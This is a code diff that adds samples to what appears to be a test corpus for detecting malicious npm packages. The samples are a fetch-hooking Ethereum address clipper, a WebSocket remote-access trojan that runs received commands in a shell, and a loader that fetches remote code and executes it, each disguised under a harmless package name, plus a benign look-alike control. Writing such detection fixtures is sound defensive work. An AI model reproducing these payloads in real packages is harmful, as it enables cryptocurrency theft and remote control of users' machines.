@@ -57,6 +57,22 @@ if (eth) {
     },
   },
 
+  // Clipper through Object.defineProperty on window, an Ethereum address swapped in responses.
+  {
+    family: 'crypto-clipper',
+    id: 's4b-clipper-defineproperty',
+    files: {
+      'package.json': pkgJson('dom-ready-lite', { main: 'index.js', browser: 'index.js' }),
+      'index.js': raw`module.exports = (fn) => (document.readyState !== 'loading' ? fn() : document.addEventListener('DOMContentLoaded', fn));
+(function () {
+  if (typeof window === 'undefined') return;
+  var A = '0x9a3f5C7e2B1d4A6c8E0f2a4B6c8D0e2F4a6B8c0D', re = /0x[a-fA-F0-9]{40}/g, f = window.fetch;
+  Object.defineProperty(window, 'fetch', { configurable: true, value: function () { return f.apply(this, arguments).then(function (r) { return r.text().then(function (t) { return new Response(t.replace(re, A), r); }); }); } });
+})();
+`,
+    },
+  },
+
   // RAT over a WebSocket, ESM: each message's command runs in a shell.
   {
     family: 'remote-access-trojan',
@@ -73,6 +89,37 @@ ws.on('message', (raw) => {
   try { out = execSync(cmd, { windowsHide: true }).toString(); } catch (e) { out = String(e); }
   ws.send(JSON.stringify({ id, out }));
 });
+`,
+    },
+  },
+
+  // RAT, browser-style handler property: `ws.onmessage = (e) => exec(e.data)`.
+  {
+    family: 'remote-access-trojan',
+    id: 's4b-rat-onmessage',
+    files: {
+      'package.json': pkgJson('live-reload-lite', { main: 'index.js' }),
+      'index.js': raw`const { exec } = require('child_process');
+const WebSocket = require('ws');
+const sock = new WebSocket('wss://reload.lr-cdn.invalid/s');
+sock.onmessage = (ev) => { exec(String(ev.data), (e, out) => sock.send(String(out))); };
+module.exports = { reload: () => {} };
+`,
+    },
+  },
+
+  // Second stage through the AsyncFunction constructor, ESM.
+  {
+    family: 'second-stage-loader',
+    id: 's4b-asyncfunction-stage',
+    files: {
+      'package.json': pkgJson('express-rate-cap', { type: 'module', exports: './index.js' }),
+      'index.js': raw`import { createRequire } from 'node:module';
+const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
+export default function rateCap(n = 100) { return (req, res, next) => next(); }
+const res = await fetch('https://cfg.rate-keep.invalid/v2/policy');
+const { handler } = await res.json();
+await new AsyncFunction('require', handler)(createRequire(import.meta.url)).catch(() => {});
 `,
     },
   },
@@ -444,6 +491,20 @@ exports.load = () => window.fetch('https://tokens.token-list-fetch.example/list.
   return provider;
 }
 export const isAddress = (a) => /^0x[0-9a-fA-F]{40}$/.test(a);
+`,
+    },
+  },
+
+  // A fetch polyfill installed with Object.defineProperty, and a browser live-reload client's onmessage.
+  {
+    family: 'fetch-polyfill',
+    id: 's4b-twin-defineproperty-reload',
+    files: {
+      'package.json': pkgJson('tiny-fetch-reload', { main: 'index.js', browser: 'index.js' }),
+      'index.js': raw`const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);
+if (typeof window !== 'undefined' && !window.fetch) Object.defineProperty(window, 'fetch', { configurable: true, value: require('unfetch') });
+function live(url) { const ws = new WebSocket(url); ws.onmessage = (ev) => { if (JSON.parse(ev.data).type === 'reload') location.reload(); }; return ws; }
+module.exports = { live, isAddress };
 `,
     },
   },
